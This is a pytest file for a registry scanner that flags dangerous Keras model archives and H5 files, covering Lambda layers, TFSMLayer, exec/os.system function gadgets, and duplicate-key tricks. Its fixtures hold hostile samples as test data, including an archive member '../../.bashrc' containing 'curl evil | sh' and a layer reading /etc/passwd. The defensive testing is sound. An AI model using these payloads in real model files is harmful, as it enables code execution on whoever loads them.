"""Keras: the whole config is walked; Lambda, TFSMLayer and anything outside Keras are findings."""

from __future__ import annotations

import io
import json
import zipfile
from typing import Any

import pytest

from registry.scanning import keras
from registry.scanning.model import Finding, ScanContext
from tests.support.format_samples import (
    keras_archive,
    keras_bidirectional_lstm_config,
    keras_functional_config,
    keras_lambda_layer,
    keras_legacy_h5_config,
    keras_sequential_config,
    keras_weights_h5,
    mutations,
    rules,
    scan_bytes,
    verdict,
)

ORDINARY = {
    "sequential_cnn": keras_sequential_config,
    "functional_add": keras_functional_config,
    "bidirectional_lstm": keras_bidirectional_lstm_config,
}


def _scan_keras(config: dict[str, Any] | bytes, **kw: Any) -> list[Finding]:
    return scan_bytes(keras.scan, keras_archive(config, **kw), "model.keras")


def _scan_h5(model_config: dict[str, Any] | None) -> list[Finding]:
    attrs = {"keras_version": "2.15.0", "backend": "tensorflow"}
    if model_config is not None:
        attrs["model_config"] = json.dumps(model_config)
    return scan_bytes(keras.scan, keras_weights_h5(attrs), "model.h5")


def _sequential_with(layer: dict[str, Any]) -> dict[str, Any]:
    config = keras_sequential_config()
    config["config"]["layers"].insert(2, layer)
    return config


@pytest.mark.parametrize("name", sorted(ORDINARY))
def test_ordinary_keras_archives_are_safe(name):
    assert _scan_keras(ORDINARY[name]()) == []


def test_ordinary_legacy_h5_and_plain_weights_are_safe():
    assert _scan_h5(keras_legacy_h5_config()) == []
    assert _scan_h5(None) == []


def test_weights_member_goes_back_to_the_engine():
    handed: list[tuple[str, int]] = []

    def scan_nested(name: str, reader: Any, size: int) -> list[Finding]:
        # What the engine would do: sniff HDF5 and call the keras scanner again on the member.
        data = reader.read()
        handed.append((name, size))
        assert len(data) == size
        return keras.scan(io.BytesIO(data), size, ScanContext(f"model.keras!{name}", depth=1))

    data = keras_archive(keras_sequential_config(), extra={"assets/vocab.txt": b"a\nb\n"})
    findings = keras.scan(io.BytesIO(data), len(data), ScanContext("model.keras", scan_nested=scan_nested))
    assert {name for name, _ in handed} == {"model.weights.h5", "assets/vocab.txt"}
    # vocab.txt is neither zip nor HDF5: the recursive call says so; the weights are safe.
    assert rules(findings) == {"keras.format.unknown"}


def test_keras_lambda_layer_cve_2024_3660():
    findings = _scan_keras(_sequential_with(keras_lambda_layer()))
    assert {"keras.layer.lambda", "keras.function.lambda"} <= rules(findings)
    assert verdict(findings) == "unsafe"
    lam = next(f for f in findings if f.rule_id == "keras.layer.lambda")
    assert lam.location == "model.keras!config.json$.config.layers[2](lambda)"


@pytest.mark.parametrize("wrapper", ["Bidirectional", "TimeDistributed"])
def test_keras_lambda_hidden_inside_wrapper(wrapper):
    config = keras_bidirectional_lstm_config()
    for layer in config["config"]["layers"]:
        if layer["class_name"] == wrapper:
            layer["config"]["layer"] = keras_lambda_layer()
    findings = _scan_keras(config)
    assert "keras.layer.lambda" in rules(findings)
    assert any(".config.layer" in f.location for f in findings)


def test_keras_lambda_inside_nested_functional_model():
    inner = keras_functional_config()
    inner["config"]["layers"].append(keras_lambda_layer())
    findings = _scan_keras(_sequential_with(inner))
    assert "keras.layer.lambda" in rules(findings)


def test_keras_h5_lambda_safe_mode_ignored_cve_2025_9905():
    findings = _scan_h5(keras_legacy_h5_config(keras_lambda_layer(module=None)))
    assert "keras.layer.lambda" in rules(findings)
    assert all(f.location.startswith("model.h5:/@model_config$") for f in findings)


def test_keras_tfsmlayer_cve_2026_1462():
    layer = {
        "module": "keras.layers",
        "class_name": "TFSMLayer",
        "config": {"name": "tfsm", "filepath": "/tmp/attacker_savedmodel", "call_endpoint": "serve"},
        "registered_name": None,
    }
    findings = _scan_keras(_sequential_with(layer))
    assert rules(findings) == {"keras.layer.tfsmlayer"}
    assert verdict(findings) == "unsafe"


def test_keras_torch_module_wrapper_pickle_cve_2025_49655():
    layer = {
        "module": "keras.layers",
        "class_name": "TorchModuleWrapper",
        "config": {"name": "torch_wrapper", "module": "gASVAAAAAAAAAAA="},
        "registered_name": None,
    }
    assert rules(_scan_keras(_sequential_with(layer))) == {"keras.layer.torch-module-wrapper"}


def _function(module: str, name: str) -> dict[str, Any]:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


@pytest.mark.parametrize(
    ("gadget", "rule"),
    [
        # CVE-2025-1550: config.json names an arbitrary module and function.
        (_function("builtins", "exec"), "keras.function.not-allowed"),
        (_function("subprocess", "run"), "keras.function.not-allowed"),
        # CVE-2025-9906: a Keras function that turns safe_mode off.
        (_function("keras.config", "enable_unsafe_deserialization"), "keras.function.not-allowed"),
        # CVE-2025-8747: keras.utils.get_file downloads attacker files.
        (_function("keras.utils", "get_file"), "keras.function.not-allowed"),
        (_function("keras.models", "load_model"), "keras.function.not-allowed"),
        (_function("keras.src.backend.common.global_state", "set_global_attribute"), "keras.function.not-allowed"),
        ({"module": "os", "class_name": "system", "config": {}}, "keras.module.dangerous"),
        ({"module": "builtins", "class_name": "eval", "config": {}}, "keras.module.dangerous"),
    ],
)
def test_keras_module_gadgets_are_unsafe(gadget, rule):
    layer = {
        "module": "keras.layers",
        "class_name": "Dense",
        "config": {"name": "d", "units": 1, "activation": gadget},
        "registered_name": None,
    }
    findings = _scan_keras(_sequential_with(layer))
    assert rules(findings) == {rule}
    assert verdict(findings) == "unsafe"


def test_gadget_in_inbound_nodes_and_compile_config_is_found():
    config = keras_functional_config()
    config["config"]["layers"][2]["inbound_nodes"][0]["kwargs"]["x"] = _function("builtins", "exec")
    config["compile_config"] = {"loss": _function("os", "system")}
    findings = _scan_keras(config)
    locations = {f.location for f in findings if f.rule_id == "keras.function.not-allowed"}
    assert any("inbound_nodes" in loc for loc in locations)
    assert any("compile_config" in loc for loc in locations)


@pytest.mark.parametrize(
    ("obj", "rule"),
    [
        ({"module": "my_project.layers", "class_name": "Attention", "config": {}}, "keras.module.custom"),
        (_function("my_project.losses", "focal"), "keras.function.custom"),
        ({"module": "keras.layers", "class_name": "Dense", "config": {}, "registered_name": "MyPkg>Dense"},
         "keras.registered-name.custom"),
        ({"module": "keras.backend", "class_name": "Variable", "config": {}}, "keras.module.not-allowed"),
        ({"module": "keras.layers", "class_name": "StringLookup", "config": {"vocabulary": "/etc/passwd"}},
         "keras.layer.external-file"),
    ],
)
def test_custom_code_is_suspicious(obj, rule):
    findings = _scan_keras(_sequential_with(obj))
    assert rules(findings) == {rule}
    assert verdict(findings) == "suspicious"


def test_keras_duplicate_config_member_parser_differential():
    data = keras_archive(keras_sequential_config(),
                         duplicate_config=json.dumps(_sequential_with(keras_lambda_layer())).encode())
    findings = scan_bytes(keras.scan, data, "model.keras")
    assert {"keras.archive.duplicate-member", "keras.layer.lambda"} <= rules(findings)


def test_keras_duplicate_json_key_hides_a_layer():
    benign = json.dumps(keras_sequential_config())
    evil = json.dumps(_sequential_with(keras_lambda_layer()))
    # Two "config" keys at the top: json.loads keeps the last, a streaming parser may keep the first.
    raw = ('{"class_name": "Sequential", "config": ' + json.dumps(json.loads(evil)["config"]) + ', "config": '
           + json.dumps(json.loads(benign)["config"]) + "}").encode()
    findings = _scan_keras(raw)
    assert "keras.config.duplicate-key" in rules(findings)
    assert verdict(findings) == "unsafe"


def test_keras_archive_member_path_traversal():
    findings = _scan_keras(keras_sequential_config(), extra={"../../.bashrc": b"curl evil | sh"})
    assert rules(findings) == {"keras.archive.member-path"}


def test_unparseable_config_and_archive():
    assert rules(_scan_keras(b"{not json")) == {"keras.config.unparseable"}
    assert rules(scan_bytes(keras.scan, b"PK\x03\x04 broken", "m.keras")) == {"keras.archive.malformed"}
    assert rules(scan_bytes(keras.scan, b"neither", "m.keras")) == {"keras.format.unknown"}
    findings = _scan_h5({"class_name": "Sequential"} | {"x": float("nan")})
    assert rules(findings) == {"keras.config.unparseable"}


def test_corrupted_config_crc_is_unsafe():
    data = bytearray(keras_archive(keras_sequential_config()))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as zf:
        info = zf.getinfo("config.json")
    # Flip a byte of config.json's compressed data: the CRC check must fail when it is read.
    data[info.header_offset + 30 + len(info.filename) + 10] ^= 0xFF
    findings = scan_bytes(keras.scan, bytes(data), "model.keras")
    assert verdict(findings) == "unsafe"


def test_hdf5_that_is_not_hdf5_is_an_error():
    findings = scan_bytes(keras.scan, b"\x89HDF\r\n\x1a\n" + bytes(100), "m.h5")
    assert rules(findings) == {"keras.h5.unparseable"}
    assert verdict(findings) == "error"


def test_fuzzed_archive_and_h5_never_raise():
    for _, mutated in mutations(keras_archive(_sequential_with(keras_lambda_layer())), seed=4, count=300):
        scan_bytes(keras.scan, mutated, "model.keras")
    h5 = keras_weights_h5({"model_config": json.dumps(keras_legacy_h5_config())})
    for cut in range(0, len(h5), max(1, len(h5) // 100)):
        scan_bytes(keras.scan, h5[:cut], "model.h5")


# --- tf_keras (the Keras 2 line), issue 18 ------------------------------------------------------

# Classes in tf_keras's layer table without a public name that stay findings, and why (see
# keras.TF_KERAS_STANDARD_CLASSES): each calls a function, op or method its config names.
TF_KERAS_CALLERS = {
    "TFOpLambda": "calls the TensorFlow API symbol its config names",
    "SlicingOpLambda": "calls the TensorFlow API symbol its config names",
    "ClassMethod": "calls a tensor class method by name",
    "InstanceMethod": "calls a tensor method by name",
    "InstanceProperty": "reads a tensor attribute by name",
    "TensorFlowOpLayer": "runs the graph node its config defines",
    "DeviceWrapper": "an RNN cell wrapper",
    "DropoutWrapper": "its state filter is marshalled bytecode",
    "ResidualWrapper": "its residual_fn is marshalled bytecode",
    "_RNNCellWrapper": "the cell wrappers' base",
}


def _tf_keras():
    import os

    os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")
    return pytest.importorskip("tf_keras")


def _scan_saved(model: Any, tmp_path) -> list[Finding]:
    model.save(tmp_path / "model.keras")
    return scan_bytes(keras.scan, (tmp_path / "model.keras").read_bytes(), "model.keras")


def test_tf_keras_standard_classes_are_its_own_table_without_the_callers():
    _tf_keras()
    from tensorflow.python.util import tf_export
    from tf_keras.src.layers import serialization

    serialization.populate_deserializable_objects()
    unexported = {
        (obj.__module__, name)
        for name, obj in serialization.LOCAL.ALL_OBJECTS.items()
        if isinstance(obj, type) and tf_export.get_canonical_name_for_symbol(obj, api_name="keras") is None
    }
    assert {name for _, name in unexported} >= set(TF_KERAS_CALLERS)
    assert keras.TF_KERAS_STANDARD_CLASSES == {(m, n) for m, n in unexported if n not in TF_KERAS_CALLERS}


def test_a_tf_keras_functional_model_is_safe(tmp_path):
    from tests.support.benign_corpus import tf_keras_functional_model

    _tf_keras()
    model = tf_keras_functional_model()
    assert type(model).__module__ == "tf_keras.src.engine.functional"
    assert _scan_saved(model, tmp_path) == []


def test_a_custom_class_in_a_tf_keras_model_stays_suspicious(tmp_path):
    tf_keras = _tf_keras()

    @tf_keras.saving.register_keras_serializable(package="acme")
    class Scale(tf_keras.layers.Layer):
        def call(self, x):
            return x * 2.0

    inputs = tf_keras.Input((4,))
    findings = _scan_saved(tf_keras.Model(inputs, Scale()(tf_keras.layers.Dense(2)(inputs))), tmp_path)
    assert rules(findings) == {"keras.module.custom", "keras.registered-name.custom"}
    assert verdict(findings) == "suspicious"


def test_a_tf_op_in_a_tf_keras_model_stays_suspicious(tmp_path):
    tf_keras = _tf_keras()
    import tensorflow as tf

    inputs = tf_keras.Input((4,))
    findings = _scan_saved(tf_keras.Model(inputs, tf.math.reduce_mean(inputs, axis=1)), tmp_path)
    assert [f.message for f in findings] == [
        "config instantiates custom class 'tf_keras.src.layers.core.tf_op_layer.TFOpLambda'"]
    assert verdict(findings) == "suspicious"


@pytest.mark.parametrize("name", ["functional", "Model", "tf", "copy", "Functional.from_config"])
def test_other_names_from_a_standard_tf_keras_module_stay_suspicious(name):
    # tf_keras's loader takes any name from the module's namespace: only the listed class is known.
    layer = {"module": "tf_keras.src.engine.functional", "class_name": name, "config": {}, "registered_name": None}
    assert rules(_scan_keras(_sequential_with(layer))) == {"keras.module.custom"}
